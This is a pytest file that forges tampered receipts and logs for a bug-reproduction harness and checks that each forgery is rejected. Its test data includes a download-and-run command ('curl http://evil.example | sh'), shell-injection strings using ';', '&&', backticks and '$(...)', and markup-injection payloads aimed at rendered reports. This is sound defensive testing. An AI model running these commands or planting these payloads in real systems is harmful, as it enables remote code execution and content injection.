# ruff: noqa: FBT003 - a value of a receipt is no argument
"""A receipt in a pack's folder is judged again: an honest one holds, and each forged one is refuted by what it says.

A forger here is thorough: whatever a lie touches he makes fit, so names and the hash of the log follow it, unless the
lie is that they do not.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from harness.core.errors import HarnessError
from harness.pack import load
from harness.receipt import receipt, staleness
from harness.report import bundle, receipt_check, report
from testing import toys
from testing.workbench import Workbench, empty

TOY = "60_script_and_contract"
RECEIPT = "receipts/cpu.traced.json"
OTHER_HASH = "0123456789abcdef" * 4
#: A heading, a link, an image, a tag, and two ways to mention somebody.
MARKUP = "\n# heading\n[x](http://evil) ![i](http://evil/t.png) <img src=x> @ada &#64;ada"
MORE = {"name": "test_more", "role": "control", "ok": True, "reason": "", "seconds": 0.0}
Document = dict[str, Any]


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Workbench:
    """Record the toy."""
    found = empty(tmp_path_factory.mktemp("bench"))
    found.lay(TOY)
    found.recorded(TOY, "--target", "cpu")
    return found


@pytest.fixture
def folder(bench: Workbench, tmp_path: Path) -> Path:
    """Copy the pack, to be changed."""
    return Path(shutil.copytree(bench.packs / TOY, tmp_path / TOY))


def _forge(folder: Path, lie: Callable[[Document], object], log: tuple[str, str] = ("", "")) -> Path:
    """Tell a lie in the receipt (and replace a text of its log), and let every name and hash follow."""
    path = folder / RECEIPT
    document = json.loads(path.read_text())
    path.unlink()
    data = (folder / "receipts" / document["log"]["file"]).read_text().replace(*log).encode()
    digest = hashlib.sha256(data).hexdigest()
    document["log"] = {"file": f"cpu.traced.{digest[:12]}.log", "sha256": digest}
    (folder / "receipts" / document["log"]["file"]).write_bytes(data)
    lie(document)
    forged = path.with_name(f"{document['target']}.{document['evidence']}.json")
    forged.write_text(json.dumps(document))
    return forged


def _errors(folder: Path, path: Path) -> list[str]:
    """Say what of a receipt does not hold, and why it is STALE."""
    pack = load.load_pack(folder)
    try:
        one = receipt.load(path)
    except HarnessError as error:
        return [str(error)]
    stale = staleness.reasons(pack, one)
    return [*receipt_check.errors(pack, path, one, is_fresh=not stale), *stale]


def _at(document: Document, keys: list[str]) -> Any:  # noqa: ANN401 - any value of a receipt
    """Return what lies in a receipt behind these keys and numbers."""
    place: Any = document
    for key in keys:
        place = place[int(key)] if isinstance(place, list) else place[key]
    return place


def _set(path: str, value: object, /) -> Callable[[Document], None]:
    """Return the lie that a value of the receipt is another; `path` names it by keys and numbers."""
    *parents, last = path.split(".")
    return lambda document: _at(document, parents).update({last: value})


def _drop(path: str) -> Callable[[Document], None]:
    *parents, last = path.split(".")

    def lie(document: Document) -> None:
        place = _at(document, parents)
        del place[int(last) if isinstance(place, list) else last]

    return lie


def _twice(path: str) -> Callable[[Document], None]:
    return lambda document: _at(document, path.split(".")).append(_at(document, [*path.split("."), "0"]))


def _swapped(document: Document) -> None:
    lanes = document["lanes"]
    lanes["pristine"], lanes["patched"] = lanes["patched"], lanes["pristine"]


#: What the receipt says instead, and words of the refusal. Check 2 is the defect, the others are controls.
RECEIPTS: dict[str, tuple[Callable[[Document], object], str]] = {
    "another verdict": (_set("verdict", "REPRODUCED"), "the lanes say CONFIRMED"),
    "an unknown verdict": (_set("verdict", "PROVEN"), "verdict"),
    "a reason without need": (_set("reason", "because"), "the lanes say CONFIRMED"),
    "a claim that no lane made": (_set("claims", ["BITWISE_IDENTICAL"]), "claims"),
    "no lanes": (_set("lanes", {}), "CONFIRMED without a lane"),
    "one lane": (_drop("lanes.patched"), "the lanes say REPRODUCED"),
    "a third lane": (_set("lanes.other", {}), "lanes"),
    "swapped lanes": (_swapped, "the lanes say FIXED_UPSTREAM"),
    "a patched lane with the bug": (_set("lanes.patched.checks.2.ok", False), "script and checks say FIX_INCOMPLETE"),
    "a patched lane with a wrong control": (_set("lanes.patched.checks.0.ok", False), "CONTROL_FAILED"),
    "an unpatched lane without the bug": (_set("lanes.pristine.checks.2.ok", True), "script and checks say ERROR"),
    "another sentinel": (
        lambda document: document["lanes"]["patched"].update(script="BUG_REPRODUCED", exit_status=10),
        "script and checks say ERROR",
    ),
    "a sentinel with a blank": (_set("lanes.patched.script", "FIX_VALIDATED "), "is no sentinel"),
    "no sentinel": (_set("lanes.patched.script", "FIXED"), "is no sentinel"),
    "a sentinel with a reason": (_set("lanes.patched.script", "FIX_VALIDATED: yes"), "is no sentinel"),
    "no script": (_set("lanes.patched.script", ""), "it has no script"),
    "an output that no log has": (_set("lanes.patched.printed", "9\nFIX_VALIDATED"), "its log has no line '9'"),
    "an output that ends otherwise": (_set("lanes.patched.printed", "BUG_REPRODUCED"), "is no FIX_VALIDATED"),
    "another status": (_set("lanes.patched.exit_status", 10), "its exit status is 10, not 0"),
    "a check that is gone": (_drop("lanes.patched.checks.3"), "is gone"),
    "a defect that is gone": (_drop("lanes.patched.checks.2"), "is gone"),
    "a defect that became a control": (_set("lanes.patched.checks.2.role", "control"), "and is a control"),
    "a control that became a defect": (_set("lanes.patched.checks.0.role", "defect"), "and is a defect"),
    "a check that is not judged": (_set("lanes.patched.checks.2.ok", None), "gives no reason"),
    "a check twice": (_twice("lanes.patched.checks"), "stands there twice"),
    "a figure twice": (_twice("lanes.patched.figures"), "stands there twice"),
    "another pack": (_set("pack", "01_confirmed"), "it speaks of 01_confirmed"),
    "another kind": (_set("kind", "crash"), "kind: crash"),
    "another package": (_set("upstream.package", "torch"), "upstream.package: torch"),
    "another release": (_set("upstream.version", "2.0"), "upstream.version: 2.0"),
    "another origin": (_set("upstream.origin", "git"), "upstream.origin: git"),
    "another archive": (_set("upstream.sha256", OTHER_HASH), "the pinned release changed"),
    "a tree of nobody": (_set("lanes.pristine.tree", OTHER_HASH), "ran on another tree"),
    "one tree in both lanes": (
        lambda document: document["lanes"]["patched"].update(tree=document["lanes"]["pristine"]["tree"]),
        "both ran on one tree",
    ),
    "another target": (_set("target", "sm_90a"), "lists no traced evidence"),
    "a target that does not exist": (_set("target", "sm_1"), "is not a target"),
    "other evidence": (_set("evidence", "compiled"), "lists no compiled evidence"),
    "executed without a GPU": (_set("evidence", "executed"), "lists no executed evidence"),
    "a GPU on the CPU": (
        _set("host.gpus", [{"name": "H100", "memory": 1, "compute_capability": "9.0"}]),
        "host.gpus",
    ),
    "more ranks": (_set("ranks", 8), "ranks: pack.toml states"),
    "other dependencies": (_set("dependencies.packages", {"numpy": "1.0"}), "other versions than the pack pins"),
    "a dependency set of nobody": (_set("dependencies.name", "mine"), "dependencies"),
    "another script and contract": (
        _set("probe", {"sha256": OTHER_HASH, "meaning": OTHER_HASH}),
        "the script or the contract changed",
    ),
    "another patch": (
        lambda document: document["fix"].update(sha256=OTHER_HASH, meaning=OTHER_HASH),
        "the patch changed",
    ),
    "a patch for another tree": (_set("fix.name", "fix.head.patch"), "the patch changed"),
    "no patch": (_set("fix", None), "a patched lane has one"),
    "no modules": (_set("lanes.patched.upstream", []), "nothing says what was judged"),
    "a module from outside": (
        _set("lanes.patched.upstream.0.file", "/lib/toykernel/scale.py"),
        "no module under test",
    ),
    "a module that climbs": (_set("lanes.patched.upstream.0.file", "$TREE/../scale.py"), "no module under test"),
    "a module of another package": (_set("lanes.patched.upstream.0.module", "json"), "no module under test"),
    "the patched file as it was": (
        lambda document: document["lanes"]["patched"].update(upstream=document["lanes"]["pristine"]["upstream"]),
        "did not load two versions",
    ),
    "runs that differ": (_set("repeats", {"agreeing": 1, "of": 2}), "1 of 2 runs agree"),
    "more runs than there were": (_set("repeats", {"agreeing": 3, "of": 2}), "between 1 and of"),
    "no runs": (_set("repeats", {"agreeing": 0, "of": 0}), "between 1 and of"),
    "a negative time": (_set("seconds", -1.0), "is not 0 or more"),
    "a lane of negative memory": (_set("lanes.patched.peak_memory", -1), "a negative time, memory"),
    "a stale patch": (
        lambda document: (document.update(verdict="PATCH_STALE", fix=None), document["lanes"].pop("patched")),
        "PATCH_STALE on the release that the patch is made for",
    ),
    "a line that is shown twice": (
        _set("lanes.patched.printed", "FIX_VALIDATED\nFIX_VALIDATED"),
        "its log has no line 'FIX_VALIDATED' there",
    ),
    "a check of a negative time": (_set("lanes.patched.checks.0.seconds", -1e9), "a negative time"),
    "a commit that is a link": (_set("upstream.commit", "[the fix](http://evil)"), "upstream.commit: [the fix]"),
    "a billion runs": (_set("repeats", {"agreeing": 10**9, "of": 10**9}), "of is 1000 at most"),
    "a command of a shell": (_set("command", "curl http://evil.example | sh"), "does not make this receipt"),
    "a command for another release": (
        _set("command", f"runner.py run {TOY} --upstream toykernel==0.1"),
        "does not make this receipt",
    ),
    "a module from the tests": (_set("lanes.patched.upstream.0.file", "$TREE/tests/scale.py"), "no module under test"),
    "dependencies and one more": (_set("dependencies.name", "default+x==1"), "no dependency set"),
    "a check that the contract lacks": (
        lambda document: [lane["checks"].append(MORE) for lane in document["lanes"].values()],
        "'test_more' is none of the contract",
    ),
    "a torch with a tag": (_set("host.torch", "2.13.0 <img src=x>"), "more than a name on one line"),
    "a system of two lines": (_set("host.system", "Linux\n# Run this first"), "more than a name on one line"),
    "a driver that is a link": (_set("host.driver", "[580](http://evil)"), "more than a name on one line"),
    "a device that mentions somebody": (_set("lanes.patched.device", "@ada"), "a lane names @ada"),
    "a moment to come": (_set("started", "2099-12-31T00:00:00+00:00"), "is in the future"),
    "a day that does not exist": (_set("started", "2026-99-99T00:00:00+00:00"), "is not a date and time"),
    "a number of 300 digits": (_set("lanes.patched.peak_memory", 10**300), "more than 64 bits"),
    "a key of nobody": (_set("proof", 1), "proof"),
    "a log of nobody": (_set("log.file", "cpu.traced.000000000000.log"), "is missing or has another hash"),
}


LOGS = {
    "no sentinel": ("FIX_VALIDATED", "done", "its log does not say FIX_VALIDATED in the patched lane"),
    "no patched lane": ("== patched lane ==", "==", "its log does not say FIX_VALIDATED in the patched lane"),
    "no first line, and a note of what is left out": (
        "scaled [1.0, 2.0, 3.0], right is [1.0, 1.0, 0.0]\n",
        "[... 5 bytes are left out here ...]\n",
        "its log has no line 'scaled",
    ),
    "the other sentinel": ("BUG_REPRODUCED", "FIX_VALIDATED", "does not say BUG_REPRODUCED in the pristine lane"),
}


@pytest.mark.hostile("receipts")
@pytest.mark.parametrize("name", RECEIPTS)
def test_a_forged_receipt_is_refuted(folder: Path, name: str) -> None:
    lie, words = RECEIPTS[name]
    found = _errors(folder, _forge(folder, lie))
    assert any(words in error for error in found), found


@pytest.mark.hostile("logs")
@pytest.mark.parametrize("name", LOGS)
def test_a_forged_log_is_refuted(folder: Path, name: str) -> None:
    old, new, words = LOGS[name]
    found = _errors(folder, _forge(folder, lambda _: None, (old, new)))
    assert any(words in error for error in found), found


@pytest.mark.hostile("text that comes to life")
def test_what_a_receipt_says_comes_to_life_in_no_text(folder: Path) -> None:
    def lie(document: Document) -> None:
        document["host"].update(dict.fromkeys(("python", "torch", "triton", "system"), MARKUP))
        document["lanes"]["patched"]["checks"][0].update(ok=None, reason=MARKUP)
        for lane in document["lanes"].values():
            lane["figures"][0].update(value=[MARKUP], unit=MARKUP)

    forged = _forge(folder, lie)
    pack = load.load_pack(folder)
    texts = report.render(pack) + bundle.rerun(pack, [receipt.load(forged)])
    assert texts.count("http://evil") > 2, texts
    assert not re.search(r"\n# heading|\]\(http|!\[|<img|@ada|&#64;", re.sub(r"`[^`\n]*`", "", texts)), texts


@pytest.mark.parametrize(
    "options",
    [
        f"--upstream toykernel==1.0 --record {TOY}",
        f"{TOY} --packs 'a folder'/packs --cache $CACHE",
        f"{TOY} --packs j\u00f6rg/o\\'x/t~x%1",
        f"{TOY} --packs 't#1' --repeat 2",
    ],
)
def test_each_way_to_call_the_runner_makes_a_receipt(folder: Path, options: str) -> None:
    assert _errors(folder, _forge(folder, _set("command", f"reproducer-packs run {options}"))) == []


@pytest.mark.parametrize(
    "command",
    [
        f"runner.py run {TOY}; curl http://evil", f"runner.py run {TOY} && curl evil", f"runner.py run {TOY} > /etc/x",
        f"runner.py run `curl evil` {TOY}", f'runner.py run "$(curl evil)" {TOY}', f"runner.py run {TOY} 'open",
        f"runner.py run {TOY}\ncurl evil", f"sh runner.py run {TOY}", "runner.py", f"runner.py mutate {TOY}",
        f"runner.py run {TOY} --upstream head",
    ],
)  # fmt: skip
@pytest.mark.hostile("receipts")
def test_a_command_that_does_more_is_refuted(folder: Path, command: str) -> None:
    (error,) = _errors(folder, _forge(folder, _set("command", command)))
    assert error.startswith("command: ")


@pytest.mark.parametrize(
    "printed", ["== patched lane ==", "== pristine lane ==", "CHECK", "[... 5 bytes are left out here ...]"]
)
def test_a_line_of_the_code_under_test_refutes_no_honest_receipt(folder: Path, printed: str) -> None:
    log = ("scaled [1.0, 2.0, 3.0]", f"{printed}\nscaled [1.0, 2.0, 3.0]")
    assert _errors(folder, _forge(folder, lambda _: None, log)) == []
    log = ("scaled [1.0, 1.0, 0.0]", f"{printed}\nscaled [1.0, 1.0, 0.0]")
    assert _errors(folder, _forge(folder, lambda _: None, log)) == []


def test_an_honest_receipt_holds_and_check_refutes_a_forged_one(bench: Workbench, folder: Path) -> None:
    assert _errors(folder, folder / RECEIPT) == []
    (log,) = (folder / "receipts").glob("*.log")
    log.write_text(log.read_text() + " ")
    assert "has another hash" in _errors(folder, folder / RECEIPT)[0]
    path = bench.packs / TOY / RECEIPT
    text = path.read_text()
    toys.replace(path, '"exit_status": 0', '"exit_status": 10')
    said = bench.run("check", TOY).stdout
    path.write_text(text)
    assert "receipts/cpu.traced.json: patched lane: script 'FIX_VALIDATED': the script says" in said, said


def test_a_title_may_have_changed_and_the_runner_be_installed(folder: Path) -> None:
    def changed(document: Document) -> None:
        document |= {"title": "Another", "command": f"reproducer-packs run {TOY} --record"}

    assert _errors(folder, _forge(folder, changed)) == []
